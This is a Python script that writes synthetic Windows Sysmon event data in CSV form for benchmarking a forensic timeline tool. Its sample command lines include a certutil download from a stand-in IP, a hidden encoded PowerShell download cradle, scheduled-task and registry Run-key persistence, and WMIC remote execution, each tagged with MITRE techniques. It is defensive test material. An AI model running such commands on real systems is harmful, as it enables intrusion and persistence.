#!/usr/bin/env python3
"""Writes a synthetic case as casetrail's own CSV (what `casetrail import`
reads back exactly), for the export and report benchmarks.

Usage: gen_case.py HEADER_FILE COUNT [SEED] > case.csv
  HEADER_FILE  the header line of `casetrail export --format csv` of any case
               (the columns are taken from the binary under test, never copied)
  COUNT        observations to write

Shape: 200 Windows workstations and 8 servers, 300 accounts, process starts
(80 %) with realistic command lines and parents, logons (15 %) and network
connections (5 %), one to two techniques on a third of them, over 30 days
from 2026-11-01, in time order. Deterministic for a given SEED.
"""

import csv
import random
import sys

IMAGES = [
    (r"C:\Windows\System32\cmd.exe", 'cmd.exe /c "dir C:\\Users\\{u}\\Documents > C:\\Temp\\{n}.txt"', ["T1059.003", "T1083"]),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\it\\inventory-{n}.ps1", ["T1059.001"]),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
     "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA{n}", ["T1059.001", "T1027"]),
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.{h}/s{n}.dat C:\\Users\\Public\\s.dat", ["T1105"]),
    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe /node:ws{h:03d} process call create \"cmd.exe /c whoami\"", ["T1047"]),
    (r"C:\Windows\System32\net.exe", "net.exe user {u} /domain", ["T1087.002"]),
    (r"C:\Windows\System32\schtasks.exe", "schtasks.exe /create /tn Update{n} /tr C:\\ProgramData\\u.exe /sc daily", ["T1053.005"]),
    (r"C:\Windows\System32\reg.exe", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u{n} /d C:\\ProgramData\\u.exe", ["T1547.001"]),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={n}", []),
    (r"C:\Windows\explorer.exe", "C:\\Windows\\explorer.exe /factory,{{75dff2b7-6936-4c06-a8bb-676a7b00b24b}}", []),
]
PARENTS = [r"C:\Windows\explorer.exe", r"C:\Windows\System32\services.exe", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"]


def main():
    if len(sys.argv) < 3:
        sys.stderr.write(__doc__)
        sys.exit(2)
    header = next(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
    count = int(sys.argv[2])
    rng = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 14)
    index = {name: i for i, name in enumerate(header)}
    out = csv.writer(sys.stdout, lineterminator="\r\n")
    out.writerow(header)
    hosts = [f"WS{i:03d}.corp.example" for i in range(1, 201)] + [f"SRV{i:02d}.corp.example" for i in range(1, 9)]
    users = [f"CORP\\user{i:03d}" for i in range(1, 301)]
    start = 1793491200 * 1_000_000  # 2026-11-01T00:00:00Z
    span = 30 * 86400 * 1_000_000
    times = sorted(start + rng.randrange(span) for _ in range(count))
    for n, t in enumerate(times, 1):
        row = [""] * len(header)
        h = rng.randrange(len(hosts))
        u = rng.choice(users)
        roll = rng.random()
        row[index["observed_at_us"]] = str(t)
        row[index["observed_offset"]] = "0"
        secs, us = divmod(t, 1_000_000)
        import datetime
        row[index["observed_text"]] = datetime.datetime.fromtimestamp(secs, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S") + f".{us // 1000:03d}Z"
        row[index["time_precision"]] = "3"
        row[index["time_source"]] = "Sysmon UtcTime"
        row[index["host"]] = hosts[h]
        row[index["host_platform"]] = "windows"
        row[index["account"]] = u
        row[index["source_ref"]] = f"{hosts[h].split('.')[0]}-Sysmon.evtx record {n}"
        row[index["uuid"]] = f"00000000-0000-4000-8000-{n:012d}"
        if roll < 0.80:
            image, cmd, techniques = rng.choice(IMAGES)
            row[index["kind"]] = "process"
            row[index["source"]] = "Sysmon 1"
            row[index["image"]] = image
            row[index["command_line"]] = cmd.format(u=u.split("\\")[1], n=n, h=h)
            row[index["pid"]] = str(rng.randrange(1000, 60000))
            row[index["parent_image"]] = rng.choice(PARENTS)
            row[index["parent_pid"]] = str(rng.randrange(400, 9000))
            row[index["logon_id"]] = f"0x{rng.randrange(0x10000, 0xfffff):x}"
            if techniques and rng.random() < 0.4:
                row[index["techniques"]] = ";".join(techniques)
        elif roll < 0.95:
            row[index["kind"]] = "logon"
            row[index["source"]] = "Security 4624"
            row[index["logon_id"]] = f"0x{rng.randrange(0x10000, 0xfffff):x}"
            row[index["attrs"]] = '{"logon_type":"%d","source_address":"10.20.%d.%d"}' % (rng.choice([2, 3, 10]), rng.randrange(256), rng.randrange(256))
            if rng.random() < 0.1:
                row[index["techniques"]] = "T1021.002"
        else:
            row[index["kind"]] = "network"
            row[index["source"]] = "Sysmon 3"
            row[index["image"]] = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
            row[index["pid"]] = str(rng.randrange(1000, 60000))
            row[index["attrs"]] = '{"destination_ip":"203.0.113.%d","destination_port":"443","protocol":"tcp"}' % rng.randrange(256)
            if rng.random() < 0.3:
                row[index["techniques"]] = "T1071.001"
        out.writerow(["'" + v if v and v[0] in "=+-@\t\r'" else v for v in row])


main()
